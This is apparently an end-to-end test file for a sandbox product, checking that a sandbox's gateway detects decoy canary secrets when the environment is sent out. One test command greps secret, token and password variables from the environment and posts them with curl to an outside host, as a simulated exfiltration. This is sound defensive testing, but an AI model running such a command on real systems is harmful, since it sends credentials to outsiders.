using Caisson.EndToEnd.Tests.Lab;

namespace Caisson.EndToEnd.Tests.Secrets;

/// <summary>Whoever sends a sandbox's environment somewhere sends its decoy.</summary>
public sealed class CanaryTests(SharedInstallation shared)
{
    private readonly Installation installation = shared.Installation;

    [Fact]
    public async Task TheEnvironment_DoesNotLeaveToAnAllowedHost()
    {
        await using var session = await Session.StartSandboxAsync(installation, "canary", "--policy", "placeholder");

        var honest = await ExecAsync("echo clean | curl -sS -m 20 -d @- https://example.org/docs/start");
        var sent = await ExecAsync(
            "env | grep -E '_(SECRET_KEY|API_TOKEN|ACCESS_TOKEN|DB_PASSWORD)=' | curl -sS -m 20 -d @- https://example.org/docs/start"
        );

        honest.ShouldNotContain("denied by the sandbox gateway");
        sent.ShouldContain("\"reason\": \"canary\"");
    }

    private async Task<string> ExecAsync(string script) =>
        (await installation.RunAsync("exec", "canary", "--", "sh", "-c", script)).ShouldSucceed().Out;
}
